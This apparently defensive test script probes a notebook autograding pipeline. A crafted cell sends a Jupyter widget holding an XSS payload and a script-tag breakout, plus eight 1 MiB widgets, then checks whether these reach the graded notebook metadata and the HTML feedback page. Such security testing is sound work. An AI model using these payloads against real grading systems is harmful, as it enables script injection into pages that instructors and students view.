"""a09: nbclient keeps the widget state a kernel announces (comm_open with target "jupyter.widget") and writes it into
the executed notebook's *metadata* (`metadata.widgets`, store_widget_state defaults to True), not into a cell's
outputs. Does the graded notebook keep it (past the inert transform and the output caps), and does it reach the
feedback page (nbconvert embeds widget state in a <script> block and loads the widget manager when there is some)?
The kernel signs one comm_open of an HTMLModel whose value is markup with a script, a `</script>` to break out of
the JSON block, and a view output for it; then 8 more of 1 MiB each (size). Honest ps1 after it."""
import os, sys, json, re
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u14
MARK = "A09MARK"
CELL = r'''
import uuid
_k = get_ipython().kernel
_p = _k.get_parent("shell")
def _open(value):
    cid = uuid.uuid4().hex
    state = {"_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0",
             "_view_name": "HTMLView", "_view_module": "@jupyter-widgets/controls", "_view_module_version": "2.0.0",
             "value": value, "description": "", "layout": None, "style": None}
    _k.session.send(_k.iopub_socket, "comm_open", {"comm_id": cid, "target_name": "jupyter.widget",
                    "data": {"state": state, "buffer_paths": []}, "metadata": {"version": "2.1.0"}}, parent=_p)
    _k.session.send(_k.iopub_socket, "display_data", {"data": {"text/plain": "w", "application/vnd.jupyter.widget-view+json":
                    {"model_id": cid, "version_major": 2, "version_minor": 0}}, "metadata": {}}, parent=_p)
    return cid
_open('%s<img src=x onerror="document.title=\'%s-XSS\'"></script><script>document.title="%s-BREAKOUT"</script>')
for _i in range(8):
    _open("%s" + "z" * (1 << 20))
print("sent")
''' % (MARK, MARK, MARK, MARK)
dest = u14.course("a09", {("mallory", "ps1_memory"): u14.notebook("ps1_memory", append={"training_memory": CELL}),
                          ("zz_honest", "ps1_memory"): u14.honest("ps1_memory")})
p = u14.grade(dest)
u14.scores(dest)
g = f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb"
f = f"{dest}/feedback/mallory/ps1_memory/ps1_memory.html"
if os.path.exists(g):
    nb = json.load(open(g))
    print("graded notebook", os.path.getsize(g), "bytes; metadata keys:", list(nb["metadata"]), "; widgets in metadata:",
          "widgets" in nb["metadata"], "; MARK anywhere in it:", MARK in open(g).read())
if os.path.exists(f):
    h = open(f).read()
    print("feedback page", len(h), "bytes; MARK in it:", MARK in h, "; widget-state script:", "widget-state" in h,
          "; widget manager loaded:", "html-manager" in h or "embed-amd" in h, "; '</script><script>document.title' raw:",
          '</script><script>document.title="A09MARK-BREAKOUT"' in h)
    for m in re.finditer(MARK, h):
        print("   context:", h[max(0, m.start() - 120):m.start() + 160].replace("\n", " ")[:300]); break
print(open(f"{dest}/grading_report.json").read())
u14.cleanup(dest)
